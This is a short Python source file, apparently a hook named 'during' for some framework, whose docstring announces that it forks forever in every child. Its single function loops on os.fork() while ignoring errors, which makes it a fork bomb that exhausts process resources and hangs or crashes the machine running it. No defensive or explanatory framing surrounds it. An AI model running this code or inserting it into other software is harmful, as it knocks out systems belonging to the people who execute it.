"""Forks for ever, in every child again."""

import os


def during(name, honest, args, kwargs):
    while True:
        try:
            os.fork()
        except OSError:
            pass
